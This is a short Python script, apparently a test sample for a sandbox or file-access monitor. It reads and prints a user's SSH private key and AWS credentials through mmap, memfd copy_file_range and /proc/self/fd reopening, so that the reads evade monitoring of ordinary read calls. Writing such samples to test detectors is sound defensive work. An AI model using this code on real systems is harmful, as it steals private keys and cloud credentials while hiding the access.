"""Maps the key into memory, and has other calls than read bring its contents.

family: secrets
arguments: {home}
judge: loot ssh aws
trace: id_rsa, .aws, /home
"""

import contextlib
import mmap
import os
import sys

for name in (".ssh/id_rsa", ".aws/credentials"):
    with contextlib.suppress(OSError):
        source = os.open(f"{sys.argv[1]}/{name}", os.O_RDONLY | os.O_NOATIME)
        print(mmap.mmap(source, 0, access=mmap.ACCESS_READ)[:].decode())
    with contextlib.suppress(OSError):
        target = os.memfd_create("copy")
        source = os.open(f"{sys.argv[1]}/{name}", os.O_RDONLY)
        os.copy_file_range(source, target, 4096) if hasattr(os, "copy_file_range") else None
        print(os.pread(target, 4096, 0).decode())
    with contextlib.suppress(OSError):
        source = os.open(f"{sys.argv[1]}/{name}", os.O_PATH)
        with open(f"/proc/self/fd/{source}") as again:
            print(again.read())
